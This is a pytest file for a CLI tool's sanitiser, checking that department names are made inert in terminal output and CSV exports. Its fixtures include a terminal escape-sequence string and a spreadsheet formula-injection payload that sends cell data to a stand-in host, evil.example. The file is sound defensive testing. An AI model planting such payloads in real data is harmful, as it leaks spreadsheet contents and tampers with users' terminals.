"""Platform text is data: no escape sequence reaches the terminal, no formula a spreadsheet
(issue 25: a department with ESC sequences was printed raw by ``champions score``, and
``=HYPERLINK(...)`` landed verbatim in the CSVs)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from e20kit.cli import main
from e20kit.safe_text import FORMULA_STARTS, clean_text, csv_cell

from .helpers import NOW, SECRET, department, make_kit

ESCAPED = "Sales\x1b[2J\x1b]0;pwned\x07\x1b[31m"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _cli(tmp_path: Path, url: str, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(
        main,
        ["-c", str(tmp_path / "e20kit.toml"), "--db", url, *args],
        env={"E20KIT_PSEUDONYM_SECRET": SECRET, "USER": "ops", "LOGNAME": "ops"},
    )
    return result.exit_code, result.output


@pytest.mark.parametrize("name", [ESCAPED, FORMULA])
def test_department_names_are_inert_on_the_terminal_and_in_csv(
    tmp_path: Path, sqlite_url: str, name: str
) -> None:
    kit = make_kit(tmp_path, sqlite_url)
    department(kit.engine, name, 6, active_top=3, prefix="d")
    kit.champions.nominate(now=NOW)
    code, out = _cli(tmp_path, sqlite_url, "champions", "score")
    assert code == 0 and "d-00" in out
    assert "\x1b" not in out and "\x07" not in out
    target = tmp_path / "roster.csv"
    code, _ = _cli(tmp_path, sqlite_url, "champions", "list", "--csv", str(target))
    assert code == 0
    with target.open(newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
    assert not any("\x1b" in c for c in cells)
    if name == FORMULA:
        assert "'" + FORMULA in cells


def test_the_helpers() -> None:
    assert clean_text(ESCAPED) == "Sales"
    assert clean_text("a\tb\nc") == "a\tb\nc"
    assert [csv_cell(v) for v in ("=1+2", "+1", "-1", "@x", "\tx", "ok", -1, 2.5)] == [
        "'=1+2",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "ok",
        -1,
        2.5,
    ]
